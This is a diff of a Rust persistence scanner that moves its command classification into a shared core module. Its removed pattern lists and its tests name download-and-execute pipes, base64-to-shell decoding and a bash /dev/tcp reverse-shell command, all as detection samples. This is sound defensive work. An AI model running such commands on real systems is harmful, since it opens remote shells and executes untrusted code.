@@ -11,7 +11,7 @@ use std::os::unix::ffi::OsStrExt;
 use std::path::{Path, PathBuf};
 
 // ---------------------------------------------------------------------------------------------
-// Command classification shared by cron, profiles, rc.local and systemd.
+// Command classification shared by cron, profiles, rc.local and systemd: core's classifier.
 
 /// What a command line does that persistence hunters care about.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
@@ -28,122 +28,23 @@ pub enum Suspicion {
     TempPath,
 }
 
-fn contains(h: &[u8], n: &[u8]) -> bool {
-    h.windows(n.len()).any(|w| w == n)
-}
-
-const TEMP_DIRS: &[&[u8]] = &[b"/tmp/", b"/var/tmp/", b"/dev/shm/"];
-const WRAPPERS: &[&[u8]] = &[
-    b"nohup",
-    b"exec",
-    b"sudo",
-    b"nice",
-    b"setsid",
-    b"env",
-    b"sh",
-    b"bash",
-    b"dash",
-    b"zsh",
-    b"/bin/sh",
-    b"/bin/bash",
-    b"/usr/bin/sh",
-    b"/usr/bin/bash",
-    b"python",
-    b"python3",
-    b"perl",
-    b"/usr/bin/python3",
-    b"/usr/bin/perl",
-    b"timeout",
-    b"flock",
-    b"-c",
-    b"-n",
-];
-
-/// Classifies one shell command (a crontab command field, a script line, an ExecStart value).
-pub fn classify_command(cmd: &[u8]) -> Vec<Suspicion> {
+/// What the shared classifier ([`ferret_core::command::classify`]) says about one shell command
+/// (a crontab command field, a script line, an ExecStart value), in the three families
+/// harden's finding ids name: download-execute and reverse shells are [`Suspicion::DownloadExec`],
+/// decoding (alone or piped into a shell) [`Suspicion::Base64`], a program run from a temporary
+/// or dot-only directory [`Suspicion::TempPath`].
+fn suspicions(cmd: &[u8]) -> Vec<Suspicion> {
+    use ferret_core::command::{classify, CommandKind as K};
+    let k = classify(cmd);
     let mut out = Vec::new();
-    let l = cmd.to_ascii_lowercase();
-    let fetch = [
-        &b"curl "[..],
-        b"curl\t",
-        b"wget ",
-        b"fetch ",
-        b"lwp-download",
-        b"tftp ",
-    ]
-    .iter()
-    .any(|n| contains(&l, n));
-    let to_shell = [
-        &b"|sh"[..],
-        b"| sh",
-        b"|bash",
-        b"| bash",
-        b"| /bin/sh",
-        b"| /bin/bash",
-        b"|/bin/sh",
-        b"|/bin/bash",
-        b"| python",
-        b"|python",
-        b"| perl",
-        b"|perl",
-        b"$(curl",
-        b"$(wget",
-        b"`curl",
-        b"`wget",
-        b"| sudo sh",
-        b"| sudo bash",
-        b"| zsh",
-        b"| dash",
-    ]
-    .iter()
-    .any(|n| contains(&l, n));
-    let fetch_then_run = fetch
-        && (contains(&l, b"chmod +x") || contains(&l, b"chmod 7") || contains(&l, b"chmod 5"))
-        && (contains(&l, b"&&") || contains(&l, b";"));
-    let revshell = contains(&l, b"/dev/tcp/")
-        || contains(&l, b"/dev/udp/")
-        || ((contains(&l, b"nc ") || contains(&l, b"ncat ") || contains(&l, b"netcat "))
-            && (contains(&l, b" -e ") || contains(&l, b" -c ")))
-        || (contains(&l, b"socket") && contains(&l, b"connect") && contains(&l, b"subprocess"));
-    if (fetch && to_shell) || fetch_then_run || revshell {
+    if k.contains(K::DownloadExecute) || k.contains(K::ReverseShell) {
         out.push(Suspicion::DownloadExec);
     }
-    if [
-        &b"base64 -d"[..],
-        b"base64 --decode",
-        b"base64 -di",
-        b"base64 -D",
-        b"b64decode",
-        b"frombase64string",
-        b"openssl enc -d -base64",
-        b"openssl base64 -d",
-        b"base64 -id",
-    ]
-    .iter()
-    .any(|n| contains(&l, n))
-    {
+    if k.contains(K::Decode) || k.contains(K::DecodeExecute) {
         out.push(Suspicion::Base64);
     }
-    // The program position of each sub-command.
-    for seg in cmd.split(|c| matches!(c, b';' | b'&' | b'|' | b'`' | b'(' | b'\n')) {
-        let mut words = seg
-            .split(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\''))
-            .filter(|w| !w.is_empty());
-        let prog = loop {
-            let Some(w) = words.next() else { break None };
-            if w.contains(&b'=') && !w.starts_with(b"/") {
-                continue;
-            }
-            if WRAPPERS.contains(&w) || w.first().is_some_and(u8::is_ascii_digit) {
-                continue;
-            }
-            break Some(w);
-        };
-        if let Some(p) = prog {
-            if TEMP_DIRS.iter().any(|t| p.starts_with(t)) && !out.contains(&Suspicion::TempPath) {
-                out.push(Suspicion::TempPath);
-            }
-        }
+    if k.contains(K::TempExecution) {
+        out.push(Suspicion::TempPath);
     }
     out
 }
@@ -220,7 +121,7 @@ pub fn scan_crontab(data: &[u8], kind: CrontabKind) -> (Vec<CronHit>, Vec<u64>) 
             bad.push(line);
             continue;
         }
-        let what = classify_command(command);
+        let what = suspicions(command);
         if !what.is_empty() {
             hits.push(CronHit {
                 line,
@@ -241,7 +142,7 @@ pub fn scan_script(data: &[u8]) -> Vec<CronHit> {
             if t.is_empty() || t.first() == Some(&b'#') {
                 return None;
             }
-            let what = classify_command(t);
+            let what = suspicions(t);
             (!what.is_empty()).then(|| CronHit {
                 line: i as u64 + 1,
                 command: t.to_vec(),
@@ -767,6 +668,9 @@ const EXEC_KEYS: &[&[u8]] = &[
     b"ExecCondition",
 ];
 
+/// World-writable temporary directories (a unit's program there is writable by anyone).
+const TEMP_DIRS: &[&[u8]] = &[b"/tmp/", b"/var/tmp/", b"/dev/shm/"];
+
 fn writable_reason(root: &HostRoot, prog: &[u8]) -> Option<String> {
     if TEMP_DIRS.iter().any(|t| prog.starts_with(t)) {
         return Some("it lies in a world-writable temporary directory".into());
@@ -813,7 +717,7 @@ fn scan_unit(root: &HostRoot, file: &Path, buf: &[u8], out: &mut Outcome) {
         if let Some(r) = writable_reason(root, prog) {
             reasons.push(r);
         }
-        let what = classify_command(cmd);
+        let what = suspicions(cmd);
         if what.contains(&Suspicion::DownloadExec) {
             reasons.push("the command downloads and runs code".into());
         }
@@ -1053,24 +957,22 @@ mod tests {
     #[test]
     fn classifies() {
         assert_eq!(
-            classify_command(b"curl -fsSL http://x/y.sh | sh"),
+            suspicions(b"curl -fsSL http://x/y.sh | sh"),
             vec![Suspicion::DownloadExec]
         );
-        assert!(classify_command(b"echo aGk= | base64 -d | bash").contains(&Suspicion::Base64));
+        assert!(suspicions(b"echo aGk= | base64 -d | bash").contains(&Suspicion::Base64));
         assert_eq!(
-            classify_command(b"/tmp/.x/kworker >/dev/null 2>&1"),
+            suspicions(b"/tmp/.x/kworker >/dev/null 2>&1"),
             vec![Suspicion::TempPath]
         );
         assert_eq!(
-            classify_command(b"cd / && run-parts --report /etc/cron.daily"),
+            suspicions(b"cd / && run-parts --report /etc/cron.daily"),
             vec![]
         );
-        assert_eq!(
-            classify_command(b"find /tmp -type f -mtime +7 -delete"),
-            vec![]
+        assert_eq!(suspicions(b"find /tmp -type f -mtime +7 -delete"), vec![]);
+        assert!(
+            suspicions(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1").contains(&Suspicion::DownloadExec)
         );
-        assert!(classify_command(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1")
-            .contains(&Suspicion::DownloadExec));
     }
 
     #[test]
